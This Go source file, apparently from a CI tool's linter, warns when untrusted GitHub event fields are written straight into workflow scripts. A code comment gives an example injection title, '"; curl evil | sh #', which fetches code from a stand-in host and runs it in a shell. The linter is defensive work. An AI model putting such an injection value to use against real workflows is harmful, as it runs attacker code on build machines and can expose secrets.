package lint

import (
	"sort"
	"strings"

	"github.com/conveyor-ci/conveyor/internal/expr"
	"github.com/conveyor-ci/conveyor/internal/workflow"
)

// untrusted are event fields that whoever opens an issue, a pull request
// or pushes a commit writes freely (GitHub Security Lab's list). Written
// straight into a script, they are code: `"; curl evil | sh #` as a title.
// A * segment matches any one segment.
var untrusted = []string{
	"github.event.issue.title",
	"github.event.issue.body",
	"github.event.pull_request.title",
	"github.event.pull_request.body",
	"github.event.pull_request.head.ref",
	"github.event.pull_request.head.label",
	"github.event.pull_request.head.repo.default_branch",
	"github.event.comment.body",
	"github.event.review.body",
	"github.event.review_comment.body",
	"github.event.discussion.title",
	"github.event.discussion.body",
	"github.event.pages.*.page_name",
	"github.event.commits.*.message",
	"github.event.commits.*.author.email",
	"github.event.commits.*.author.name",
	"github.event.head_commit.message",
	"github.event.head_commit.author.email",
	"github.event.head_commit.author.name",
	"github.event.head_commit.committer.email",
	"github.event.head_commit.committer.name",
	"github.event.workflow_run.head_branch",
	"github.event.workflow_run.display_title",
	"github.event.workflow_run.head_commit.message",
	"github.event.workflow_run.head_commit.author.email",
	"github.event.workflow_run.head_commit.author.name",
	"github.head_ref",
}

// Warnings finds what is allowed but dangerous: untrusted event fields
// interpolated into a run: script (or github-script's script:), where an
// attacker's text becomes a command. The fix is to pass the value through
// env: and use the variable. Warnings never fail a lint or a run.
func Warnings(w *workflow.Workflow) workflow.Problems {
	var out workflow.Problems
	for _, j := range w.Jobs {
		for _, s := range j.Steps {
			if s.Run != "" {
				out = append(out, untrustedIn(w.File, s.Run, s.RunPos, "run:")...)
			}
			if name, _, _ := strings.Cut(s.Uses, "@"); strings.EqualFold(name, "actions/github-script") {
				for _, kv := range s.With {
					if kv.Key == "script" {
						out = append(out, untrustedIn(w.File, kv.Value, kv.Pos, "script:")...)
					}
				}
			}
		}
	}
	workflow.SortProblems(out)
	return out
}

func untrustedIn(file, text string, pos workflow.Pos, where string) workflow.Problems {
	var out workflow.Problems
	seen := map[string]bool{}
	for _, src := range expressionsOf(text) {
		e, err := expr.Parse(src, nil)
		if err != nil {
			continue // lint reports syntax errors elsewhere
		}
		refs := e.References()
		sort.Strings(refs)
		for _, r := range refs {
			if seen[r] || !isUntrusted(r) {
				continue
			}
			seen[r] = true
			out = append(out, &workflow.Problem{File: file, Pos: pos, Message: "warning: " + r +
				" is untrusted input (anyone who opens an issue or a pull request writes it) interpolated into " + where +
				" it runs as code; pass it through env: (env: {VALUE: ${{ " + src + " }}}) and use \"$VALUE\""})
		}
	}
	return out
}

// expressionsOf returns the insides of the ${{ }} of text.
func expressionsOf(text string) []string {
	var out []string
	for {
		i := strings.Index(text, "${{")
		if i < 0 {
			return out
		}
		j := strings.Index(text[i+3:], "}}")
		if j < 0 {
			return out
		}
		out = append(out, strings.TrimSpace(text[i+3:i+3+j]))
		text = text[i+3+j+2:]
	}
}

func isUntrusted(ref string) bool {
	segs := strings.Split(ref, ".")
	for _, u := range untrusted {
		us := strings.Split(u, ".")
		if len(us) != len(segs) {
			continue
		}
		match := true
		for i := range us {
			if us[i] != "*" && us[i] != segs[i] {
				match = false
				break
			}
		}
		if match {
			return true
		}
	}
	return false
}
